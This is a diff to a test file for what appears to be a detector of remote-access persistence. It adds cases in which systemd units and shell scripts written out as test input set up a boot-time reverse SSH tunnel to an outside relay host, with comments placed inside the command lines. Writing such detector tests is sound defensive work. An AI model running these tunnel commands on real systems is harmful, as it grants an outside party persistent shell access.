@@ -691,6 +691,22 @@ test(
 	boots(`tee /etc/systemd/system/t.service >/dev/null <<EOF\n[Service]\nExecStart=${relay}\nEOF\nsystemctl enable --now t`),
 	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
 );
+test(
+	'a unit with a comment within a line',
+	finds,
+	'remoteAccess',
+	enabled('t.service', `[Service]\nExecStart=/usr/bin/ssh \\\n# to us\n  -NR 0:localhost:22 \\\r\n t@relay.larkspur-queue.com\n`),
+	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
+);
+test(
+	'a unit with a comment within a line that a script writes',
+	finds,
+	'remoteAccess',
+	boots(
+		`cat > /etc/systemd/system/t.service <<'EOF'\n[Service]\nExecStart=/usr/bin/ssh \\\n# to us\n  -NR 0:localhost:22 t@relay.larkspur-queue.com\nEOF\nsystemctl enable t`,
+	),
+	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
+);
 test('a line of a crontab that a script adds', finds, 'remoteAccess', boots(`(crontab -l; echo "@reboot ${relay}") | crontab -`), [
 	'ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com',
 ]);
